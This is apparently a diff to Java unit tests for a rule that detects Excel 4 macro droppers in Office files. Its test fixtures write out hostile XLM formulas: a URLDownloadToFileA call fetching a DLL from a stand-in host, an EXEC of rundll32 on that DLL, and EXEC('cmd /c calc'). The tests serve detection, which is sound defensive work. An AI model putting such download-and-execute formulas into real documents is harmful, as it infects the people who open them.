@@ -80,14 +80,41 @@ class OfficeMacroDropperRuleTest {
 
     @Test
     void filesWithoutMacroCodeGoOn() throws Exception {
-        RuleResult noCode = RuleResult.proceed(NAME, Result.UNKNOWN, "The file contains no VBA macro code");
+        RuleResult noCode = RuleResult.proceed(NAME, Result.UNKNOWN, "The file contains no VBA macro code and no Excel 4 formulas");
 
         assertThat(rule.evaluate(context("%PDF-1.4\n".getBytes(), "a.pdf"))).isEqualTo(noCode);
         assertThat(rule.evaluate(context(OfficeFiles.docx(), "a.docx"))).isEqualTo(noCode);
         assertThat(rule.evaluate(context(OfficeFiles.xlsm(module("Sheet1", "Option Explicit")), "a.xlsm")))
                 .isEqualTo(noCode);
-        // An Excel 4 auto-open sheet is no VBA code: its formulas are not read yet.
+        // An Excel 4 auto-open sheet without formulas has nothing to run.
         assertThat(rule.evaluate(context(OfficeFiles.xlsmWithXlmMacroSheet(), "x.xlsm"))).isEqualTo(noCode);
+    }
+
+    @Test
+    void excel4DroppersAreBadInEveryFormat() throws Exception {
+        byte[] xlsm = OfficeFiles.xlsmWithXlmFormulas("CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
+                + "\"http://example.invalid/p\",\"C:\\Users\\Public\\p.dll\",0,0)", "EXEC(\"rundll32 p.dll,Start\")",
+                "HALT()");
+        byte[] xls = OfficeFiles.xlsWithXlmFormulas("EXEC(\"cmd /c calc\")", "HALT()");
+        byte[] sylk = OfficeFiles.sylkWithXlmFormulas("EXEC(\"cmd /c calc\")", "HALT()");
+
+        assertThat(rule.evaluate(context(xlsm, "a.xlsm")).reason()).isEqualTo(
+                "The file contains an Office macro that runs by itself (Auto_Open) and runs programs (EXEC (Excel 4)),"
+                        + " downloads (URLDownloadToFile (Excel 4))");
+        assertThat(rule.evaluate(context(xls, "a.xls")).reason()).isEqualTo(
+                "The file contains an Office macro that runs by itself (Auto_Open) and runs programs (EXEC (Excel 4))");
+        assertThat(rule.evaluate(context(sylk, "a.slk")).result()).isEqualTo(Result.BAD);
+        assertThat(rule.evaluate(context(sylk, "a.csv")).result()).isEqualTo(Result.BAD);
+    }
+
+    @Test
+    void benignExcel4MacroSheetsGoOn() throws Exception {
+        byte[] compute = OfficeFiles.xlsmWithXlmFormulas("SUM(B1:B9)", "SET.VALUE(C1,A1*2)", "RETURN()");
+        byte[] legacy = OfficeFiles.xlsWithXlmFormulas("SUM(B1:B9)", "GET.WORKSPACE(2)", "RETURN(TRUE)");
+
+        assertThat(rule.evaluate(context(compute, "a.xlsm"))).isEqualTo(RuleResult.proceed(NAME, Result.UNKNOWN,
+                "The file's Office macros run by themselves but show no sign of a dropper"));
+        assertThat(rule.evaluate(context(legacy, "a.xls")).result()).isEqualTo(Result.UNKNOWN);
     }
 
     @Test
